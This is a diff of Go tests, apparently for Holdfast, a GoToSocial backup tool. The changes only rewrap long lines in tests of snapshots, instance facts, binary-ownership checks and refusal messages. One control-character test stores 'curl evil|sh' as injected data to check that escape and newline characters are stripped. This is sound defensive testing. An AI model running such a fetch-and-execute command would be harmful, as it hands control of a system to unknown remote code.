@@ -36,7 +36,8 @@ func TestViewIsOneMomentWhileTheServerWrites(t *testing.T) {
 		if err := v.Close(); err != nil {
 			t.Fatal(err)
 		}
-		debit, credit := query[int64](t, db, "SELECT count(*) FROM debit"), query[int64](t, db, "SELECT count(*) FROM credit")
+		debit, credit := query[int64](t, db, "SELECT count(*) FROM debit"), query[int64](t, db,
+			"SELECT count(*) FROM credit")
 		balance := query[int64](t, db, "SELECT n FROM balance")
 		if debit != credit || debit != balance || debit <= last {
 			t.Errorf("debit %d, credit %d, balance %d, after %d: not one moment", debit, credit, balance, last)
@@ -91,7 +92,8 @@ func TestViewReadsEveryJournalMode(t *testing.T) {
 				t.Error("a stopped server's pages differ from its file")
 			}
 			f := v.Database()[0]
-			if f.Path != "sqlite.db" || f.PageSize != 4096 || f.Size != int64(len(want)) || f.Part != manifest.Database || f.Modified.IsZero() {
+			if f.Path != "sqlite.db" || f.PageSize != 4096 || f.Size != int64(len(want)) ||
+				f.Part != manifest.Database || f.Modified.IsZero() {
 				t.Errorf("%+v", f)
 			}
 		})
@@ -103,7 +105,8 @@ func TestFactsTellTheInstance(t *testing.T) {
 	binary := script(t, dir, "echo gotosocial version 0.20.0-rc1 '(57cb4fe)'")
 	belongToNobody(t, dir)
 	i := openInstance(t, dir, instance.Options{Binary: binary})
-	want := manifest.Facts{Engine: "sqlite", User: owner(t, dir), AccountDomain: "example.org", GoToSocial: "0.20.0-rc1", Migration: "20250715095446", Accounts: 2, Statuses: 2}
+	want := manifest.Facts{Engine: "sqlite", User: owner(t, dir), AccountDomain: "example.org",
+		GoToSocial: "0.20.0-rc1", Migration: "20250715095446", Accounts: 2, Statuses: 2}
 	if got := begin(t, i).Facts(); got != want {
 		t.Errorf("%+v, want %+v", got, want)
 	}
@@ -118,7 +121,8 @@ func belongToNobody(t *testing.T, dir string) {
 	if os.Geteuid() != 0 {
 		return
 	}
-	for _, err := range []error{os.Chmod(filepath.Dir(dir), 0o755), os.Chmod(dir, 0o755), os.Chown(filepath.Join(dir, "sqlite.db"), 65534, 65534)} {
+	for _, err := range []error{os.Chmod(filepath.Dir(dir), 0o755), os.Chmod(dir, 0o755),
+		os.Chown(filepath.Join(dir, "sqlite.db"), 65534, 65534)} {
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -149,11 +153,13 @@ func TestRootRunsTheServersBinaryAsTheDatabasesOwnerOrNotAtAll(t *testing.T) {
 			database, binary := filepath.Join(dir, "sqlite.db"), script(t, dir, "echo version 1.2.$(id -u)")
 			i := openInstance(t, dir, instance.Options{Binary: binary})
 			if c.link {
-				if err := errors.Join(os.Rename(database, database+".moved"), os.Symlink("sqlite.db.moved", database)); err != nil {
+				if err := errors.Join(os.Rename(database, database+".moved"), os.Symlink("sqlite.db.moved",
+					database)); err != nil {
 					t.Fatal(err)
 				}
 			}
-			if err := errors.Join(os.Chown(database, c.database, c.database), os.Chown(binary, c.binary, c.binary)); err != nil {
+			if err := errors.Join(os.Chown(database, c.database, c.database), os.Chown(binary, c.binary,
+				c.binary)); err != nil {
 				t.Fatal(err)
 			}
 			if got := i.Version(t.Context()); got != c.want {
@@ -184,8 +190,10 @@ func TestBinaryIsNotRunBesideAStrangeDatabase(t *testing.T) {
 func TestBinaryThatSaysTooMuchSaysNothing(t *testing.T) {
 	dir := small(t, "WAL")
 	belongToNobody(t, dir)
-	for text, want := range map[string]string{"echo 1.2.3; head -c 100000 /dev/zero": "1.2.3", "head -c 100000 /dev/zero; echo ' 1.2.3'": ""} {
-		if got := openInstance(t, dir, instance.Options{Binary: script(t, dir, text)}).Version(t.Context()); got != want {
+	for text, want := range map[string]string{"echo 1.2.3; head -c 100000 /dev/zero": "1.2.3",
+		"head -c 100000 /dev/zero; echo ' 1.2.3'": ""} {
+		if got := openInstance(t, dir, instance.Options{Binary: script(t, dir,
+			text)}).Version(t.Context()); got != want {
 			t.Errorf("%s: %q, want %q", text, got, want)
 		}
 	}
@@ -241,7 +249,8 @@ func TestFactsAreWholeOrAnError(t *testing.T) {
 func TestFactsHoldNoControlCharacters(t *testing.T) {
 	dir := small(t, "WAL")
 	db := openSQL(t, filepath.Join(dir, "sqlite.db"))
-	if _, err := db.Exec("INSERT INTO bun_migrations (id, name) VALUES (999999, 'x' || char(10) || 'curl evil|sh' || char(27))"); err != nil {
+	if _, err := db.Exec("INSERT INTO bun_migrations (id, name) VALUES (999999, 'x' || char(10) || 'curl evil|sh' " +
+		"|| char(27))"); err != nil {
 		t.Fatal(err)
 	}
 	if got := begin(t, openInstance(t, dir, instance.Options{})).Facts().Migration; got != "xcurl evil|sh" {
@@ -384,7 +393,8 @@ func TestAnotherUserIsRefusedAndLeavesNothing(t *testing.T) {
 	dir, reader := public(t, "WAL")
 	before := entries(t, dir)
 	out := reader()
-	if !strings.Contains(out, "refused: ") || !strings.Contains(out, "fix: run Holdfast as that user: sudo -u root holdfast") {
+	if !strings.Contains(out, "refused: ") || !strings.Contains(out, "fix: run Holdfast as that user: sudo -u root "+
+		"holdfast") {
 		t.Errorf("%s", out)
 	}
 	if after := entries(t, dir); !slices.Equal(after, before) {
@@ -440,7 +450,8 @@ func TestWhoMayNotReadIsToldAsWhom(t *testing.T) {
 		if err := os.Chmod(filepath.Join(dir, name), 0o700); err != nil {
 			t.Fatal(err)
 		}
-		if out := reader(); !strings.HasPrefix(out, "refused: can't read the ") || !strings.Contains(out, "fix: run Holdfast as root or as the user who owns it") {
+		if out := reader(); !strings.HasPrefix(out, "refused: can't read the ") ||
+			!strings.Contains(out, "fix: run Holdfast as root or as the user who owns it") {
 			t.Errorf("%s: %s", name, out)
 		}
 	}
